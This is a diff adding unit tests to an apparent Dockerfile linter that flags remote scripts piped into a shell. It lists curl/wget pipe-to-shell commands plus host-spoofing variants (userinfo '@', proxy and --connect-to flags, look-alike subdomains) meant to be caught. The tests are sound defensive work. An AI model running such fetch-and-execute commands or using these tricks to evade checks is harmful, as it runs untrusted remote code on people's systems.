@@ -381,3 +381,28 @@ describe('the finding', () => {
     expect(fixOf('RUN curl https://a.io/x | sh')).toContain('Download https://a.io/x to a file');
   });
 });
+
+describe('a server of the build itself', () => {
+  it.each([
+    'curl http://localhost/a.sh | sh',
+    'curl -fsSL http://localhost:8000/a.sh | sh',
+    'curl -s localhost:8000/a | bash',
+    'wget -qO- http://127.0.0.1:80/a | sh',
+    'sh -c "$(curl -s http://[::1]:8000/a)"',
+  ])('%s is not elsewhere', (script) => {
+    expect(find(`RUN ${script}`)).toEqual([]);
+  });
+
+  it.each([
+    'curl http://localhost.a.io/a | sh',
+    'curl http://localhost@a.io/a | sh',
+    'curl http://localhost:8000@a.io/a | sh',
+    'curl -x http://a.io http://localhost/a | sh',
+    'curl --connect-to ::a.io:80 http://localhost/a | sh',
+    'curl http://localhost/a https://a.io/b | sh',
+    'curl http://127.0.0.1.a.io/a | sh',
+    'curl http://$HOST/a | sh',
+  ])('%s may be', (script) => {
+    expect(find(`RUN ${script}`)).toHaveLength(1);
+  });
+});
